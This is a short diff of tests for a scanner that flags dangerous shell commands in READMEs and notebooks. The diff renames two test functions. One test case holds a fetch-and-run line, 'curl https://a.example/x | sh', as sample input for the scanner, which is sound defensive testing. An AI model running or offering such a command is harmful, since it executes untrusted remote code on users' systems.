@@ -298,7 +298,7 @@ def test_file_that_a_script_only_names_fails_the_scan_if_it_is_dangerous_and_the
         ("```sh\npython3 run.py scripts/data.txt\n```\n", "curl https://a.example/x | sh\n", 0),
     ],
 )
-def test_dangerous_file_that_a_document_tells_users_to_run_fails_the_scan(
+def test_dangerous_file_that_a_document_has_users_run_fails_the_scan(
     tmp_path: Path, document: str, program: str, exit_code: int
 ) -> None:
     (tmp_path / "README.md").write_text(document)
@@ -661,7 +661,7 @@ _NOTEBOOK_WITH_PROSE = json.dumps(
         ("demo.ipynb", _NOTEBOOK_WITH_PROSE),
     ],
 )
-def test_harmful_command_that_a_document_tells_users_to_run_is_reported_and_passes(
+def test_harmful_command_that_a_document_has_users_run_is_reported_and_passes(
     tmp_path: Path, name: str, text: str
 ) -> None:
     assert scan_text(tmp_path, name, text) == (0, {"shell/instruction"})
